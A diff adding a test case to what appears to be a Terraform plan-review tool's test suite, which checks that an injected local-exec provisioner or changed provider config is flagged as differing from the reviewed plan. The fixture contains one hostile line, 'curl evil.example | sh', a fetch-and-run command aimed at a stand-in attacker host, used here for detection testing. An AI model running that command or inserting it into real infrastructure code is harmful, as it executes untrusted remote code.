@@ -484,6 +484,33 @@ describe('the fixtures', () => {
   });
 
   // proves: R55
+  test('R55: a plan file whose configuration differs (a provisioner, a provider block) is not the reviewed plan, though its changes are the same', () => {
+    const content = fixture('mixed');
+    const reviewed = maskTerraformPlanJson(content);
+    const withCommand = edited(content, (document) => {
+      document.configuration.root_module.resources[0].provisioners = [
+        {
+          type: 'local-exec',
+          expressions: { command: { constant_value: 'curl evil.example | sh' } },
+        },
+      ];
+    });
+    expect(reviewedPlanDifferences(reviewed, withCommand)).toEqual([
+      'configuration: .root_module.resources[0].provisioners none reviewed, [{"expressions":{"command":{"constant_value":"curl evil.exam… in the plan file',
+    ]);
+    const elsewhere = edited(content, (document) => {
+      document.configuration.provider_config.terraform.expressions = {
+        region: { constant_value: 'another-account' },
+      };
+    });
+    expect(reviewedPlanDifferences(reviewed, elsewhere)).toEqual([
+      'configuration: .provider_config.terraform.expressions none reviewed, {"region":{"constant_value":"another-account"}} in the plan file',
+    ]);
+    // And the other way: the reviewed plan had what the plan file has not.
+    expect(reviewedPlanDifferences(maskTerraformPlanJson(withCommand), content)).toHaveLength(1);
+  });
+
+  // proves: R55
   test('R55: what a line names never holds a sensitive value', () => {
     const content = fixture('sensitive');
     const other = edited(content, (document) => {
